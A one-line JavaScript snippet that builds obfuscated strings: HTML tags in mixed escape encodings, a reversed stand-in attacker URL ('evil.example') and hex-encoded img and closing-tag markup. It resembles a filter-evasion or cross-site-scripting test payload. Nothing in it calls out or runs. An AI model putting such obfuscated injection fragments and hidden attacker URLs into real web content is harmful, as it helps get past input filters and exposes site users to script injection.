x="\x3cform\u003e\u{3c}b>".split("");y="/elpmaxe.live//:sptth".split("").reverse().join("");z="3c696d672073726320783e3c2f613e3c2f623e"
